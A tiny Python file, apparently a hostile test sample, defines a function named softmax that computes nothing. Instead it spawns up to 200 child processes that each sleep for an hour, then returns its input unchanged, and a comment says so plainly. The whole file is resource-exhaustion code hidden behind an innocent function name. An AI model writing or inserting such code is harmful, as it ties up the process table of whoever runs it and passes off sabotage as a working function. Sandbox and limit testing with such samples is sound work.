# Forks as fast as it can from softmax() and leaves sleepers behind.
import os
import time


def softmax(S):
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)
        except OSError:
            break
    return S
